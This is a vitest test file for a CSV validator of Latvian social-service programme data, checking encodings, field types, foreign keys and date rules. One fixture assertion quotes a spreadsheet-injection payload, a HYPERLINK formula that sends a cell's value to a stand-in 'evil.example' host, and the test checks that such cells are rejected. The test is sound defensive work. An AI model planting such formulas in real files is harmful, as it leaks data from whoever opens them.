import { beforeAll, describe, expect, it } from 'vitest';
import { checkCsv, type CheckResult } from '../../../src/lib/live/check.ts';
import { PROBLEM_CODES, type Problem } from '../../../src/lib/live/problems.ts';
import {
	addAccepted,
	contextFromTables,
	createContext,
	validateRows,
	type ValidationContext
} from '../../../src/lib/live/validate.ts';
import { REFERENCE_FILES, TODAY, codes, fixture, referenceContext, triples } from './helpers.ts';

let ctx: ValidationContext;
const seen: { problems: readonly Problem[] }[] = [];

async function check(name: string, c = ctx, opts: Parameters<typeof checkCsv>[3] = {}): Promise<CheckResult> {
	const r = await checkCsv(name, fixture(name), c, { today: TODAY, ...opts });
	seen.push(r);
	return r;
}

beforeAll(async () => {
	ctx = await referenceContext();
});

describe('good files', () => {
	it('load the reference tables without problems, typed (Latvian headers, ; , BOM, CRLF, jā/nē, DD.MM.YYYY)', async () => {
		expect(ctx.loaded.get('participants')?.size).toBe(3);
		expect(ctx.participants.get('C001')).toEqual({ cohort: 'child', enrolled_on: '2018-09-15', exited_on: '2019-10-31' });
		const parents = await referenceContext(REFERENCE_FILES.filter((f) => f !== 'participants.csv'));
		const r = await checkCsv('participants.csv', fixture('participants.csv'), parents, { today: TODAY });
		expect(r.table).toBe('participants');
		expect(r.problems).toEqual([]);
		expect(r.delimiter).toBe(';');
		expect(r.accepted[2]).toMatchObject({
			participant_id: 'A001',
			birth_year: 1985,
			enrolled_on: '2019-10-01',
			impairment_vision: null,
			needs_natural_support: true,
			needs_minor_child: false,
			care_level: 3
		});
	});

	it('accepts Latvian decimal commas (12,5 and 1 234,56) in a semicolon file and skips the empty row', async () => {
		const r = await check('services-lv.csv');
		expect(r.table).toBe('services');
		expect(r.mapping?.columns).toEqual(['event_id', 'participant_id', 'service_code', 'month', 'units', 'unit_price_eur', 'cost_eur', 'provider_id', 'price_basis']);
		expect(r.accepted.map((a) => [a.event_id, a.month, a.units, a.unit_price_eur, a.cost_eur])).toEqual([
			['E1', '2018-10-01', 4, 25.5, 102],
			['E2', '2018-11-01', 40, 30.864, 1234.56],
			['E3', '2019-11-01', 12.5, 8, 100],
			['E4', '2019-01-01', 2, 12.5, 25]
		]);
		expect(triples(r.problems)).toEqual([['row_empty', 6, null]]);
		expect(r.stats).toEqual({ rows: 5, accepted: 4, rejected: 0, skipped: 1, errors: 0, warnings: 1 });
	});

	it('keeps a label with embedded quotes, separator and newline', () => {
		expect(ctx.loaded.get('providers')?.has('P01')).toBe(true);
	});
});

describe('re-adding a file', () => {
	it('skips identical rows as already_loaded (no double counting) and rejects conflicting ones', async () => {
		const c = await referenceContext();
		const first = await check('services-lv.csv', c);
		addAccepted(c, 'services', first.accepted);
		const again = await check('services-lv.csv', c);
		expect(again.accepted).toEqual([]);
		expect(triples(again.problems)).toEqual([
			['already_loaded', 2, 'event_id'],
			['already_loaded', 3, 'event_id'],
			['already_loaded', 4, 'event_id'],
			['already_loaded', 5, 'event_id'],
			['row_empty', 6, null]
		]);
		expect(again.stats.errors).toBe(0);
		const changed = await check('services-lv-changed.csv', c);
		expect(triples(changed.problems)).toEqual([
			['already_loaded', 2, 'event_id'],
			['conflicts_with_loaded', 3, 'event_id']
		]);
		expect(changed.accepted.map((a) => a.event_id)).toEqual(['E5']);
	});
});

describe('bad files: exact problems (code, row, column)', () => {
	it('services-bad.csv', async () => {
		const r = await check('services-bad.csv');
		expect(triples(r.problems)).toEqual([
			['required_missing', 3, 'participant_id'],
			['not_a_number', 4, 'units'],
			['not_a_date', 5, 'month'],
			['value_not_allowed', 6, 'price_basis'],
			['negative_number', 7, 'units'],
			['number_out_of_range', 8, 'units'],
			['unknown_participant', 9, 'participant_id'],
			['unknown_service', 10, 'service_code'],
			['unknown_provider', 11, 'provider_id'],
			['cost_mismatch', 12, 'cost_eur'],
			['service_outside_enrolment', 14, 'month'],
			['service_outside_enrolment', 15, 'month'],
			['month_not_first_day', 16, 'month'],
			['date_in_future', 17, 'month'],
			['cohort_mismatch', 18, 'service_code'],
			['duplicate_row_in_file', 19, 'event_id'],
			['duplicate_key_in_file', 20, 'event_id'],
			['row_empty', 21, null],
			['csv_field_count', 22, null],
			['formula_like', 23, 'service_code'],
			['date_out_of_range', 24, 'month'],
			['not_a_number', 25, 'units']
		]);
		// B12 (3 × 10.333 = 30.999 → 31.00 within 0.01) and "Market" (case) are accepted
		expect(r.accepted.map((a) => [a.event_id, a.price_basis])).toEqual([
			['B01', 'market'],
			['B12', 'market'],
			['B22', 'market']
		]);
		expect(r.stats).toEqual({ rows: 25, accepted: 3, rejected: 20, skipped: 2, errors: 20, warnings: 2 });
		const cost = r.problems.find((p) => p.code === 'cost_mismatch')!;
		expect(cost.message_en).toBe('Cost 120 does not equal units × unit price = 102.00 (tolerance 0.01).');
		expect(cost.message_lv).toBe('Izmaksas 120 neatbilst apjoms × vienības cena = 102.00 (pielaide 0,01).');
	});

	it('participants-bad.csv (required_when, types, ranges, pattern, foreign keys, dates, plausibility)', async () => {
		const r = await check('participants-bad.csv');
		expect(r.mapping?.columns[0]).toBe('participant_id'); // "Participant ID"
		expect(r.mapping?.columns[3]).toBe('municipality_code'); // "municipality"
		expect(triples(r.problems)).toEqual([
			['unknown_column', 1, 'notes'],
			['required_when_forbidden', 3, 'disability_group'],
			['required_when_missing', 4, 'impairment_vision'],
			['not_a_boolean', 5, 'impairment_hearing'],
			['number_out_of_range', 6, 'care_level'],
			['not_an_integer', 7, 'care_level'],
			['pattern_mismatch', 8, 'participant_id'],
			['unknown_municipality', 9, 'municipality_code'],
			['unknown_programme', 10, 'programme'],
			['date_order', 11, 'exited_on'],
			['age_inconsistent', 12, 'age_at_entry'],
			['cohort_age_mismatch', 13, 'age_at_entry'],
			['exit_reason_without_date', 14, 'exit_reason'],
			['value_not_allowed', 15, 'sex'],
			['not_a_date', 16, 'enrolled_on'],
			['date_in_future', 17, 'enrolled_on']
		]);
		// warnings keep the row
		expect(r.accepted.map((a) => a.participant_id)).toEqual(['C010', 'A016', 'C014', 'A017']);
		expect(r.problems.filter((p) => p.severity === 'warning').map((p) => p.code)).toEqual([
			'unknown_column',
			'age_inconsistent',
			'cohort_age_mismatch',
			'exit_reason_without_date'
		]);
	});

	it('budgets-bad.csv (agreed above indicative, period order, months range, missing amount)', async () => {
		const r = await check('budgets-bad.csv');
		expect(triples(r.problems)).toEqual([
			['agreed_above_indicative', 3, 'agreed_eur'],
			['date_order', 4, 'period_end'],
			['number_out_of_range', 5, 'months'],
			['required_missing', 6, 'indicative_eur']
		]);
		expect(r.accepted.length).toBe(1);
	});

	it('hyperlink.csv: formula-like cells are rejected, never evaluated', async () => {
		const r = await check('hyperlink.csv');
		expect(triples(r.problems)).toEqual([
			['formula_like', 2, 'name_lv'],
			['formula_like', 3, 'name_en'],
			['formula_like', 3, 'successor_2021_lv']
		]);
		expect(r.problems[0].value).toBe('=HYPERLINK("http://evil.example/?leak="&A2,"Click")');
		expect(r.accepted).toEqual([]);
	});

	it.each([
		['empty.csv', [['file_empty', null, null]]],
		['binary-junk.csv', [['binary_content', null, null]]],
		['windows-1257.csv', [['encoding_invalid_utf8', null, null]]],
		['utf16.csv', [['encoding_utf16', null, null]]],
		['truncated.csv', [['csv_unterminated_quote', 3, null]]],
		['merged-header.csv', [['header_merged', 1, null]]],
		['no-header.csv', [['header_missing', 1, null]]],
		['duplicate-columns.csv', [['duplicate_column', 1, 'participant_id']]],
		['missing-column.csv', [['missing_column', 1, 'status']]]
	])('%s is rejected as a whole', async (name, expected) => {
		const r = await check(name);
		expect(triples(r.problems)).toEqual(expected);
		expect(r.fileRejected).toBe(true);
		expect(r.accepted).toEqual([]);
	});

	it('file-level details: byte offsets and the header row found', async () => {
		const w = await check('windows-1257.csv');
		expect(w.problems[0].message_en).toBe('The file is not UTF-8 encoded (invalid byte at 96). Save it as "CSV UTF-8".');
		const b = await check('binary-junk.csv');
		expect(b.problems[0].message_en).toContain('NUL @ 8');
		const m = await check('merged-header.csv');
		expect(m.problems[0].message_en).toContain('column names found in row 2');
	});

	it('header-only.csv: warning no_data_rows', async () => {
		const r = await check('header-only.csv');
		expect(triples(r.problems)).toEqual([['no_data_rows', 1, null]]);
		expect(r.fileRejected).toBe(false);
	});

	it('an XLSX renamed .csv is binary content', async () => {
		const r = await checkCsv('x.csv', new Uint8Array([0x50, 0x4b, 3, 4, 10, 0, 0, 0]), ctx);
		seen.push(r);
		expect(triples(r.problems)).toEqual([['binary_content', null, null]]);
		expect(r.problems[0].message_en).toContain('zip/xlsx');
	});

	it('an unknown table override is table_unknown', async () => {
		const r = await check('municipalities.csv', createContext(), { table: 'nope' });
		expect(triples(r.problems)).toEqual([['table_unknown', null, null]]);
	});

	it('more than 100 columns: too_many_columns', async () => {
		const header = ['code', ...Array.from({ length: 119 }, (_, i) => `extra_${i + 1}`)];
		const r = await checkCsv('wide.csv', header.join(',') + '\n' + ['TALSI_N', ...Array(119).fill('x')].join(',') + '\n', ctx);
		seen.push(r);
		expect(triples(r.problems)).toEqual([['too_many_columns', 1, null]]);
		expect(r.problems[0].message_en).toBe('The file has 120 columns; at most 100 are allowed.');
	});
});

describe('cell-level faults on in-memory rows', () => {
	const base = { code: 'OGRE_N', name_lv: 'Ogres novads', name_en: 'Ogre county', kind: 'county', region: 'Rīga', successor_2021_lv: null };

	it('control characters, over-long text, mis-encoded text (a row error since issue 16), booleans, mixed case allowed values', () => {
		const r = validateRows(
			'municipalities',
			[
				{ row: 2, values: { ...base, name_en: 'Ogre\u0001county' } },
				{ row: 3, values: { ...base, code: 'X_N', name_en: 'x'.repeat(1001) } },
				{ row: 4, values: { ...base, code: 'Y_N', name_lv: 'Ogres novads DalÄ«bnieks' } },
				{ row: 5, values: { ...base, code: 'Z_N', kind: 'COUNTY' } }
			],
			createContext(),
			{ file: 'm.csv', today: TODAY }
		);
		expect(triples(r.problems)).toEqual([
			['control_characters', 2, 'name_en'],
			['text_too_long', 3, 'name_en'],
			['encoding_mojibake', 4, 'name_lv']
		]);
		expect(r.accepted.map((a) => [a.code, a.kind])).toEqual([['Z_N', 'county']]);
		seen.push(r);
	});

	it('assessments: unknown dimension, score outside the scale (ICF 8/9 allowed), unknown participant', () => {
		const c = contextFromTables({
			participants: [{ participant_id: 'C001', cohort: 'child', enrolled_on: '2018-09-15', exited_on: null }],
			instrument_dimensions: [
				{ instrument: 'sfk', dimension_code: 'd1', scale_min: 0, scale_max: 4, scoring_method: 'icf_qualifier' },
				{ instrument: 'kidscreen52', dimension_code: 'k1', scale_min: 0, scale_max: 100, scoring_method: 'rasch_t' }
			]
		});
		const row = { participant_id: 'C001', instrument: 'sfk', informant: 'professional', wave: 'baseline', assessed_on: '2018-09-20', dimension_code: 'd1', score: '2', scoring_method: 'icf_qualifier' };
		const r = validateRows(
			'assessments',
			[
				{ row: 2, values: row },
				{ row: 3, values: { ...row, wave: 'followup', score: '9' } },
				{ row: 4, values: { ...row, dimension_code: 'd2', score: '5' } },
				{ row: 5, values: { ...row, informant: 'child', score: '6' } },
				{ row: 6, values: { ...row, participant_id: 'C404' } },
				{ row: 7, values: { ...row, informant: 'parent', score: '=1+1' } }
			],
			c,
			{ file: 'a.csv', today: TODAY }
		);
		expect(triples(r.problems)).toEqual([
			['unknown_dimension', 4, 'dimension_code'],
			['score_out_of_scale', 5, 'score'],
			['unknown_participant', 6, 'participant_id'],
			['formula_like', 7, 'score']
		]);
		expect(r.accepted.map((a) => a.score)).toEqual([2, 9]);
		seen.push(r);
	});

	it('plan_goals: unknown domain, review before setting', () => {
		const c = contextFromTables({
			participants: [{ participant_id: 'A001', cohort: 'adult', enrolled_on: '2019-10-01', exited_on: null }],
			plan_domains: [{ code: 'A1' }]
		});
		const g = { goal_id: 'A001-G01', participant_id: 'A001', domain_code: 'A1', term: 'long', set_on: '2019-10-10', reviewed_on: '2021-01-20', attainment: 'partly', gas_rating: '', gas_weight: '' };
		const r = validateRows(
			'plan_goals',
			[
				{ row: 2, values: g },
				{ row: 3, values: { ...g, goal_id: 'A001-G02', domain_code: 'A9' } },
				{ row: 4, values: { ...g, goal_id: 'A001-G03', reviewed_on: '2019-01-01' } },
				{ row: 5, values: { ...g, goal_id: 'A001-G04', gas_rating: '3' } }
			],
			c,
			{ file: 'g.csv', today: TODAY }
		);
		expect(triples(r.problems)).toEqual([
			['unknown_domain', 3, 'domain_code'],
			['date_order', 4, 'reviewed_on'],
			['number_out_of_range', 5, 'gas_rating']
		]);
		seen.push(r);
	});

	it('caps the problem list with too_many_problems', () => {
		const rows = Array.from({ length: 20 }, (_, i) => ({ row: i + 2, values: { ...base, kind: 'town' } }));
		const r = validateRows('municipalities', rows, createContext(), { file: 'm.csv', maxProblems: 5 });
		expect(r.problems.length).toBe(6);
		expect(triples(r.problems.slice(-1))).toEqual([['too_many_problems', null, null]]);
		expect(r.stats.errors).toBe(20);
		seen.push(r);
	});

	it('formula cells from a spreadsheet keep their cached value with a warning', () => {
		const r = validateRows('municipalities', [{ row: 2, values: { ...base }, formulaColumns: ['name_en'] }], createContext(), { file: 'm.xlsx' });
		expect(triples(r.problems)).toEqual([['formula_cached_value', 2, 'name_en']]);
		expect(r.accepted.length).toBe(1);
		seen.push(r);
	});
});

describe('fault coverage', () => {
	it('the tests above exercise at least 25 distinct fault codes, all in the catalogue', () => {
		const all = codes(seen);
		for (const c of all) expect(PROBLEM_CODES).toContain(c);
		expect(all.size).toBeGreaterThanOrEqual(25);
		// eslint-disable-next-line no-console
		console.log(`distinct fault codes exercised in validate.test.ts: ${all.size} of ${PROBLEM_CODES.length}`);
	});
});
